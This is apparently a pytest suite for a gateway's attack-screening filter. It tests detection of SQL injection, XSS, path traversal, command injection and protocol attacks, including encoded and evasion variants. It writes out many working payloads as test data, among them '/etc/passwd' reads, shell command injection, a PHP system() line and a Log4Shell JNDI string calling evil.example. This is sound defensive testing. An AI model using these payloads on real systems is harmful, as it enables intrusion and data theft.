"""The screening filter called directly: every category with plain, encoded and
double-encoded attacks and their benign look-alikes; locations, exclusions, shadow
mode, body inspection and replay, counters."""

from __future__ import annotations

import json
import logging
from typing import Any
from urllib.parse import quote

import orjson
import pytest

from gateway.body import BytesBody
from gateway.filters.screening import RULES, ReplayBody, compile_rules
from gateway.filters.screening.normalise import normalise
from gateway.filters.screening.scoring import Verdict
from tests.screening.support import Chunks, Upstream, exchange, screening_filter


def q(value: str, times: int = 1) -> str:
    for _ in range(times):
        value = quote(value, safe="")
    return value


def wide(text: str) -> str:
    """Full-width forms (U+FF01..U+FF5E) of the printable ASCII in `text`."""
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def js(**doc: Any) -> dict[str, Any]:
    return {
        "method": "POST",
        "body": json.dumps(doc).encode(),
        "headers": [("Content-Type", "application/json")],
    }


# (id, request, blocked, a rule id expected among the hits or None, its location)
CASES: list[tuple[str, dict[str, Any], bool, int | None, str | None]] = [
    # -- sqli
    ("sqli-tautology", {"query": "id=" + q("1' or '1'='1")}, True, 942100, "query:id"),
    ("sqli-tautology-2x", {"query": "id=" + q("1' or '1'='1", 2)}, True, 942100, "query:id"),
    ("sqli-union-comments", {"query": "id=" + q("1/**/UNION/**/SELECT/**/pw/**/FROM/**/users")},
     True, 942190, "query:id"),
    ("sqli-versioned-comment", {"query": "id=" + q("1 /*!50000union*/ /*!50000select*/ 1,2")},
     True, 942190, "query:id"),
    ("sqli-fullwidth", {"query": "id=" + q(wide("1 UNION SELECT 2"))}, True, 942190, "query:id"),
    ("sqli-comment-cut", {"query": "user=" + q("admin'--")}, True, 942440, "query:user"),
    ("sqli-stacked-json", js(id="1; DROP TABLE users--"), True, 942200, "body:$.id"),
    ("sqli-sleep-form", {"method": "POST", "body": b"name=x&id=1%27+AND+SLEEP%285%29--",
                         "headers": [("Content-Type", "application/x-www-form-urlencoded")]},
     True, 942140, "body:id"),
    ("sqli-cookie", {"headers": [("Cookie", "a=b; sid=" + q("' or 1=1--"))]}, True, 942100,
     "cookie:sid"),
    ("sqli-benign-apostrophes", js(text="O'Brien said 'select the union plan' -- or not."),
     False, None, None),
    ("sqli-benign-prose", {"query": "q=" + q("please select one from the list")}, False, None,
     None),
    ("sqli-benign-python", js(code="if x == 1 and y == 2:\n    print('ok')"), False, None, None),
    # -- xss
    ("xss-script", {"query": "q=" + q("<script>alert(1)</script>")}, True, 941110, "query:q"),
    ("xss-script-2x", {"query": "q=" + q("<script>alert(1)</script>", 2)}, True, 941110,
     "query:q"),
    ("xss-entities", js(bio="&lt;img src=x onerror=alert(1)&gt;"), True, 941120, "body:$.bio"),
    ("xss-numeric-entities", js(bio="&#60;svg/onload=alert(1)&#62;"), True, 941180,
     "body:$.bio"),
    ("xss-js-escapes", {"query": "q=" + q("\\u003cscript\\u003ealert(1)")}, True, 941110,
     "query:q"),
    ("xss-javascript-uri", js(link="javascript:alert(document.domain)"), True, 941170,
     "body:$.link"),
    ("xss-user-agent", {"headers": [("User-Agent", "<img src=x onerror=alert(1)>")]}, True,
     941120, "header:User-Agent"),
    ("xss-benign-html", js(html='<p>Hello <b>world</b> <a href="https://x.org">x</a></p>'),
     False, None, None),
    ("xss-benign-js-book", js(title="JavaScript: The Good Parts"), False, None, None),
    ("xss-benign-onload-code", js(code="window.onload = init;"), False, None, None),
    # -- traversal
    ("traversal-plain", {"query": "file=" + q("../../../etc/passwd")}, True, 930100,
     "query:file"),
    ("traversal-2x", {"query": "file=" + q("../../../etc/passwd", 2)}, True, 930100,
     "query:file"),
    ("traversal-path-encoded", {"path": "/static/%2e%2e/%2e%2e/secret"}, True, 930105, "path"),
    ("traversal-path-2x", {"path": "/static/%252e%252e%252fconfig"}, True, 930105, "path"),
    ("traversal-overlong-utf8", {"path": "/static/%c0%ae%c0%ae/x"}, True, 920250, "path"),
    ("traversal-backslash", js(f="..\\..\\windows\\win.ini"), True, 930100, "body:$.f"),
    ("traversal-benign-relative", js(code="import x from '../utils';"), False, None, None),
    ("traversal-benign-dotfile", js(text="copy .env.example to .env, then run it"), False,
     None, None),
    # -- rce
    ("rce-semicolon", {"query": "host=" + q("127.0.0.1; cat /etc/passwd")}, True, 932100,
     "query:host"),
    ("rce-subshell-2x", {"query": "host=" + q("$(whoami)", 2)}, True, 932102, "query:host"),
    ("rce-quoted-evasion", {"query": "h=" + q(";c'a't /e't'c/hosts")}, True, 932100, "query:h"),
    ("rce-ifs", js(cmd="x;cat${IFS}/etc/passwd"), True, 932180, "body:$.cmd"),
    ("rce-log4shell-header", {"headers": [("User-Agent", "${jndi:ldap://evil.example/a}")]},
     True, 932200, "header:User-Agent"),
    ("rce-newline-query", {"query": "h=" + q("x\nid")}, True, 932101, "query:h"),
    ("rce-php", js(c="<?php system($_GET['c']); ?>"), True, 933100, "body:$.c"),
    ("rce-benign-markdown-table", js(md="| name | id |\n| --- | --- |\n| cat | 1 |"), False,
     None, None),
    ("rce-benign-shell-prose", js(t="npm ci && npm test; then push"), False, None, None),
    ("rce-benign-shebang", js(code="#!/usr/bin/env python3\nprint(1)"), False, None, None),
    # -- protocol
    ("protocol-crlf-query", {"query": "next=%0d%0aSet-Cookie:%20a=b"}, True, 921130,
     "query:next"),
    ("protocol-crlf-path", {"path": "/r%0d%0aLocation:%20http://evil"}, True, 921130, "path"),
    ("protocol-nul", {"query": "f=report.pdf%00.exe"}, True, 920270, "query:f"),
    ("protocol-nul-json", js(name="a\u0000b"), True, 920270, "body:$.name"),
    ("protocol-bad-percent", {"query": "q=%zz"}, True, 920220, "query:q"),
    ("protocol-bad-utf8", {"query": "q=%ff%fe"}, True, 920250, "query:q"),
    ("protocol-bad-json", {"method": "POST", "body": b'{"a": 1,,}',
                           "headers": [("Content-Type", "application/json")]}, True, 200002,
     "body"),
    ("protocol-benign-percent-sign", {"query": "discount=100%25"}, False, None, None),
    ("protocol-benign-utf8", {"query": "tag=caf%C3%A9"}, False, None, None),
    ("protocol-benign-json-newlines", js(text="line one\r\nHost: is fine in a body"), False,
     None, None),
]  # fmt: skip


@pytest.mark.parametrize(
    ("request_kw", "blocked", "rule", "location"),
    [c[1:] for c in CASES],
    ids=[c[0] for c in CASES],
)
async def test_rules(
    request_kw: dict[str, Any], blocked: bool, rule: int | None, location: str | None
) -> None:
    f = screening_filter()
    up = Upstream()
    ex = exchange(**request_kw)
    reply = await f(ex, up)
    assert (reply.status == 403) is blocked, ex.state.get("screening")
    if rule is not None:
        verdict: Verdict = ex.state["screening"]
        assert (rule, location) in verdict.hits
    if blocked:
        assert up.calls == 0
        assert f.counters.blocked == 1
    else:
        assert up.calls == 1


async def test_block_reply_never_echoes_the_payload(caplog: pytest.LogCaptureFixture) -> None:
    f = screening_filter()
    payload = "<script>alert('pwned')</script>"
    ex = exchange(query="q=" + q(payload))
    with caplog.at_level(logging.WARNING, "gateway.screening"):
        reply = await f(ex, Upstream())
    assert reply.status == 403
    assert reply.headers["Content-Type"] == "application/json"
    assert orjson.loads(reply.body) == {
        "error": "forbidden",
        "message": "request blocked by screening",
        "request_id": "req-1",
    }
    assert b"script" not in reply.body
    line = caplog.records[-1].getMessage()
    assert "blocked request on route api (id=req-1 client=203.0.113.7 GET)" in line
    assert "941110@query:q" in line
    assert "alert" not in line  # rule ids and locations, never the payload


async def test_shadow_mode_logs_counts_and_passes(caplog: pytest.LogCaptureFixture) -> None:
    f = screening_filter(mode="shadow")
    up = Upstream()
    with caplog.at_level(logging.WARNING, "gateway.screening"):
        reply = await f(exchange(query="id=" + q("1 union select 2")), up)
    assert reply.status == 200
    assert up.calls == 1
    assert (f.counters.shadow, f.counters.blocked) == (1, 0)
    assert f.counters.rules[942190] == 1
    assert "would block (shadow)" in caplog.text


# (id, exclusions, request, blocked)
EXCLUSIONS: list[tuple[str, list[dict[str, Any]], dict[str, Any], bool]] = [
    ("rule-for-parameter", [{"rule": 942190, "parameter": "q"}],
     {"query": "q=" + q("union select")}, False),
    ("rule-other-parameter", [{"rule": 942190, "parameter": "q"}],
     {"query": "id=" + q("union select")}, True),
    ("rule-path-prefix-match", [{"rule": 942190, "path_prefix": "/search"}],
     {"path": "/search/all", "query": "q=" + q("union select")}, False),
    ("rule-path-prefix-miss", [{"rule": 942190, "path_prefix": "/search"}],
     {"path": "/api", "query": "q=" + q("union select")}, True),
    ("category-for-header", [{"rule": "xss", "header": "x-snippet"}],
     {"headers": [("X-Snippet", "<script>x</script>")]}, False),
    ("json-key", [{"rule": 941110, "parameter": "html"}],
     js(post={"html": "<script>x</script>"}), False),
    ("json-path", [{"rule": 941110, "parameter": "$.post.html"}],
     js(post={"html": "<script>x</script>"}), False),
    ("json-other-key", [{"rule": 941110, "parameter": "html"}],
     js(post={"body": "<script>x</script>"}), True),
    ("cookie", [{"rule": "sqli", "cookie": "sid"}],
     {"headers": [("Cookie", "sid=" + q("' or 1=1--"))]}, False),
    ("other-rule-still-counts", [{"rule": 942100, "parameter": "q"}],
     {"query": "q=" + q("' or 1=1; drop table users--")}, True),
    ("route-wide", [{"rule": "traversal"}], {"query": "f=../../etc/passwd"}, False),
]  # fmt: skip


@pytest.mark.parametrize(
    ("exclusions", "request_kw", "blocked"),
    [c[1:] for c in EXCLUSIONS],
    ids=[c[0] for c in EXCLUSIONS],
)
async def test_exclusions(
    exclusions: list[dict[str, Any]], request_kw: dict[str, Any], blocked: bool
) -> None:
    f = screening_filter(headers=["*"], exclusions=exclusions)
    ex = exchange(**request_kw)
    reply = await f(ex, Upstream())
    assert (reply.status == 403) is blocked
    if not blocked:
        assert f.counters.excluded >= 1
        assert ex.state["screening"].excluded


async def test_threshold_adds_warnings_in_one_location() -> None:
    # 942260 (quote + keyword, 3) + 942150 (SQL function, 2): 5 in one value blocks,
    # the same two in different values do not.
    same = exchange(query="q=" + q("x' or char(65)"))
    apart = exchange(query="a=" + q("x' or y") + "&b=" + q("char(65)"))
    assert (await screening_filter()(same, Upstream())).status == 403
    assert (await screening_filter()(apart, Upstream())).status == 200
    assert (await screening_filter(threshold=3)(apart, Upstream())).status == 403


async def test_large_body_inspected_prefix_then_replayed_whole() -> None:
    f = screening_filter(inspect_body_bytes=1024)
    chunks = [b'{"a": "' + b"x" * 500, b"y" * 500, b"z" * 500, b'", "b": "<script>"}']
    up = Upstream()
    ex = exchange(method="POST", body=Chunks(list(chunks)),
                  headers=[("Content-Type", "application/json")])  # fmt: skip
    reply = await f(ex, up)
    assert reply.status == 200  # the script tag lies beyond the inspected prefix
    assert isinstance(ex.body, ReplayBody)
    assert up.body == b"".join(chunks)
    assert f.counters.bodies_truncated == 1


async def test_truncated_json_string_literals_are_scanned() -> None:
    f = screening_filter(inspect_body_bytes=64)
    body = b'{"q": "1 union select 2", "pad": "' + b"x" * 200 + b'"}'
    ex = exchange(method="POST", body=Chunks([body[:40], body[40:]]),
                  headers=[("Content-Type", "application/json")])  # fmt: skip
    assert (await f(ex, Upstream())).status == 403


async def test_small_body_becomes_replayable_bytes() -> None:
    f = screening_filter()
    up = Upstream()
    ex = exchange(method="POST", body=Chunks([b'{"a":', b' "b"}']),
                  headers=[("Content-Type", "application/json")])  # fmt: skip
    assert (await f(ex, up)).status == 200
    assert isinstance(ex.body, BytesBody)  # the pool may resend it on a stale connection
    assert up.body == b'{"a": "b"}'


async def test_head_block_does_not_read_the_body() -> None:
    body = Chunks([b"x" * 10])
    ex = exchange(method="POST", query="q=" + q("<script>"), body=body)
    assert (await screening_filter()(ex, Upstream())).status == 403
    assert body.pulled == 0


async def test_body_inspection_off() -> None:
    ex = exchange(**js(a="<script>alert(1)</script>"))
    assert (await screening_filter(inspect_body_bytes=0)(ex, Upstream())).status == 200


async def test_categories_limit_the_rules() -> None:
    f = screening_filter(categories=["sqli"])
    assert (await f(exchange(query="q=" + q("<script>")), Upstream())).status == 200
    assert (await f(exchange(query="q=" + q("1 union select 1")), Upstream())).status == 403


def test_rules_are_compiled_once_and_shared() -> None:
    a, b = screening_filter(), screening_filter(threshold=10)
    assert a.matcher is b.matcher
    assert compile_rules(["xss", "sqli"]) is compile_rules(["sqli", "xss", "sqli"])
    assert repr(a).startswith("<ScreeningFilter route=api mode=block threshold=5 ")


def test_every_rule_has_a_known_category_and_a_crs_severity() -> None:
    assert {r.category for r in RULES} == {"sqli", "xss", "traversal", "rce", "protocol"}
    assert {r.score for r in RULES} <= {2, 3, 4, 5}


# (id, raw value, expected text form)
NORMALISE = [
    ("url-twice", "%253Cscript%253E", "<script>"),
    ("entities", "&lt;b&gt; &#x3c;i&#62;", "<b> <i>"),
    ("iis-u", "%u003cscript", "<script"),
    ("nfkc-fullwidth", wide("SELECT"), "select"),
    ("sql-comment", "UN/**/ION/**/SELECT", "un ion select"),
    ("versioned-comment", "/*!50000SELECT*/1", " select 1"),
    ("whitespace", "a \t\n  b", "a b"),
    ("nul-removed", "sel%00ect", "select"),
]


@pytest.mark.parametrize(("raw", "text"), [c[1:] for c in NORMALISE], ids=[c[0] for c in NORMALISE])
def test_normalise(raw: str, text: str) -> None:
    assert normalise(raw, raw=True).text == text
